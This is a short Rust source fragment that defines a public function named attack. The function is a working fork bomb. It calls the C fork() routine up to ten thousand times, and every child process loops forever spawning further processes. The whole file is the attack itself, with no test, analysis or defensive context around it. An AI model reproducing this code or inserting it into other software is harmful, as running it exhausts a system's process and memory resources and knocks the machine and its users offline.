unsafe extern "C" {
    fn fork() -> i32;
}
// Ends up here only where forking is refused at last.
pub fn attack(_: &str) -> bool {
    let mut started = 0;
    while started < 10_000 {
        match unsafe { fork() } {
            -1 => return false,
            0 => loop {
                unsafe { fork() };
                std::thread::yield_now();
            },
            _ => started += 1,
        }
    }
    true
}
